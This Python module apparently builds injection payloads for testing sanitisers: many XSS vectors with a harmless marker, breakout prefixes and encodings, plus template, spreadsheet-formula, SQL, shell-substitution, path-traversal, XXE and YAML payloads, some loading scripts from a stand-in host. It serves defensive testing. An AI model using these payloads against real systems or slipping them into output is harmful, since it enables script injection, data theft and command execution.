"""Texts that try to become code: kinds of vectors, ways out of where they stand, disguises.

Nothing is drawn by chance: the list is the same each time. `KINDS` has each kind once; with
`ALL` each kind tries each way out.
"""

from __future__ import annotations

from collections.abc import Callable
from itertools import product
from urllib.parse import quote

_RUN = "window.hit=1"
_LOADING = """load error focus toggle begin end start play loadstart canplay cut
pageshow""".split()  # noqa: SIM905
_TOUCHED = """click mouseover mouseenter pointerover pointerrawupdate wheel keydown input change
drag drop copy paste scroll animationstart transitionend beforetoggle contextmenu
auxclick beforeinput focusin invalid reset select submit scrollend touchstart""".split()  # noqa: SIM905
_EMPTY = """img svg video audio body iframe input details marquee object embed
math""".split()  # noqa: SIM905

VECTORS = (
    *(f"<{name} src=x on{event}={_RUN}>" for name, event in zip(_EMPTY, _LOADING, strict=True)),
    *(f"<p tabindex=1 on{event}={_RUN}>x</p>" for event in _TOUCHED),
    f"<script>{_RUN}</script>",
    "<script src=//x.example/x.js></script>",
    f"<script type=module>{_RUN}</script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<script\x20type='text/javascript'>{_RUN}</script>",
    f"<img/src=x/onerror={_RUN}>",
    f"<img src=x onerror={_RUN}//",
    f"<img src=`x` onerror={_RUN}>",
    f"<img\tsrc=x\tonerror\t=\t{_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x>",
    f'<svg><a xlink:href="javascript:{_RUN}"><text>x</text></a></svg>',
    f"<svg><use href='data:image/svg+xml,<svg onload={_RUN}>'/></svg>",
    f"<svg><foreignObject><img src=x onerror={_RUN}></foreignObject></svg>",
    f"<math><mtext><style><img src=x onerror={_RUN}></style></mtext></math>",
    f"<math href='javascript:{_RUN}'>x</math>",
    f"<iframe src=javascript:{_RUN}>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'>",
    f"<object data=javascript:{_RUN}>",
    f"<embed src=javascript:{_RUN}>",
    f"<a href=javascript:{_RUN}>x</a>",
    f'<a href="java&#x09;script:{_RUN}">x</a>',
    f'<a href="&#106;avascript:{_RUN}">x</a>',
    f"<a href='data:text/html,<script>{_RUN}</script>'>x</a>",
    f"<a href='vbscript:{_RUN}'>x</a>",
    f"<form action=javascript:{_RUN}><button>x</button></form>",
    f"<form id=x></form><button form=x formaction=javascript:{_RUN}>x",
    f"<select onfocus={_RUN} autofocus><option>x",
    f"<textarea onfocus={_RUN} autofocus>",
    f"<details open ontoggle={_RUN}><summary>x</summary></details>",
    f"<video><source onerror={_RUN}></video>",
    f"<template><script>{_RUN}</script></template>",
    "<template shadowrootmode=open><slot></slot></template>",
    f"<dialog open onclose={_RUN}>x</dialog>",
    f"<button popovertarget=x>x</button><p popover id=x onbeforetoggle={_RUN}>x</p>",
    f"<xmp><p title='</xmp><img src=x onerror={_RUN}>'>",
    f"<noembed><p title='</noembed><img src=x onerror={_RUN}>'>",
    f"<plaintext><img src=x onerror={_RUN}>",
    "<base href=//x.example/>",
    "<link rel=stylesheet href=//x.example/x.css>",
    "<link rel=attachment href='file:///etc/passwd'>",
    "<link rel=preload as=script href=//x.example/x.js>",
    "<meta http-equiv=refresh content='0;url=//x.example'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_RUN}'>",
    "<meta http-equiv=content-security-policy content='default-src *'>",
    "<style>*{ background: url(//x.example) }</style>",
    "<style>@import '//x.example/x.css';</style>",
    "<p style='background: url(//x.example)'>x</p>",
    "<p style=\"content: url('file:///etc/passwd')\">x</p>",
    "<frameset><frame src=//x.example></frameset>",
    "<applet code=x>x</applet>",
    "<isindex action=//x.example>",
    "<bgsound src=//x.example>",
    "<portal src=//x.example></portal>",
    "<custom-element is=x></custom-element>",
    "<object data='file:///etc/passwd'></object>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>",
    f"<?php {_RUN} ?>",
    "<![CDATA[<script>window.hit=1</script>]]>",
    f"<!--[if gte IE 4]><script>{_RUN}</script><![endif]-->",
)  # fmt: skip
"""What would run, load or restyle something if it became an element."""

WAYS_OUT = (
    "", '">', "'>", "`>", '" ', "' ", "-->", "--!>", "]]>", "</script>", "</style>", "</title>",
    "</textarea>", "</noscript>", "</template>", "</svg>", "</p></div></li></ul></td></tr></table>",
    "</article></main></body></html>", "*/ }", "\\", "\\'", '\\"', "%>", "}}", "%}", "#}",
)  # fmt: skip
"""What would end the text, attribute, comment, script or style that a vector stands in."""

DISGUISES: tuple[Callable[[str], str], ...] = (
    str.upper,
    str.swapcase,
    lambda text: "".join(f"&#{ord(letter)};" for letter in text),
    lambda text: "".join(f"&#x{ord(letter):x}" for letter in text),
    lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
    lambda text: text.replace("<", "&amp;lt;").replace(">", "&amp;gt;"),
    quote,
    lambda text: quote(quote(text)),
    lambda text: text.replace("<", "\\u003c").replace(">", "\\u003e"),
    lambda text: text.replace("<", "\\x3c").replace(">", "\\x3e"),
    lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
    lambda text: text.replace("<", "<\u200d"),
)  # fmt: skip
"""Ways to write a vector so that something later might read it as one."""

OTHERS = (
    "{{ 7 * 7 }}", "{% include '/etc/passwd' %}", "{# a comment #}", "${7*7} #{7*7} <%= 7*7 %>",
    "%(name)s %s %d %%", "{0.__class__}", "{x.__globals__}", "{{ ''.__class__.__mro__ }}",
    "{{ cycler.__init__.__globals__.os }}", "{% for x in (1,) %}{{ x }}{% endfor %}",
    "=cmd|' /C calc'!A0", '=HYPERLINK("//x.example")', "@SUM(1+1)", "+1+1", "-1+1",
    "[x](javascript:window.hit=1)", "![x](//x.example/x.png)", "<http://x.example>", "# heading",
    "***bold*** `code`", "--- title: x ---", "|a|b| |-|-|", "!!python/object:os.system",
    "javascript:window.hit=1", "JaVaScRiPt:window.hit=1//", "jav\u00ADascript:window.hit=1",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "url(file:///etc/passwd)",
    "url(//x.example)", "expression(window.hit=1)", "\\22 ; } * { background: url(//x.example) }",
    "x' OR 1=1 --", "'; DROP TABLE x; --", "$(id)", "`id`", "; cat /etc/passwd",
    "../../etc/passwd",
    "\x7f<b>", "a\u200d<b>", "\u202e<b>", "\u2028<script>", "&", "&amp", "&copy;",
    "&NewLine;", "<", ">",
)  # fmt: skip
"""What would be computed, not run: by templates, spreadsheets, Markdown, YAML, shells."""

_FEW = VECTORS[::4]

KINDS: tuple[str, ...] = tuple(
    dict.fromkeys((
        *VECTORS,
        *OTHERS,
        *(way + vector for way, vector in product(WAYS_OUT, _FEW[::3])),
        *(disguise(vector) for disguise, vector in product(DISGUISES, _FEW)),
    ))
)  # fmt: skip
"""Each kind once."""

ALL: tuple[str, ...] = tuple(dict.fromkeys(way + kind for way, kind in product(WAYS_OUT, KINDS)))
"""Each kind with each way out of where it stands."""


def batches(payloads: tuple[str, ...], letters: int) -> list[str]:
    """The payloads in texts of just so many letters, so that one rendering tries many together.

    All are equally long, filled up with letters: some pages hang on the length of texts.
    """
    made = [""]
    for payload in payloads:
        if len(made[-1]) + len(payload) >= letters:
            made.append("")
        made[-1] += f"{payload} "
    return [text.ljust(letters, "w") for text in made]
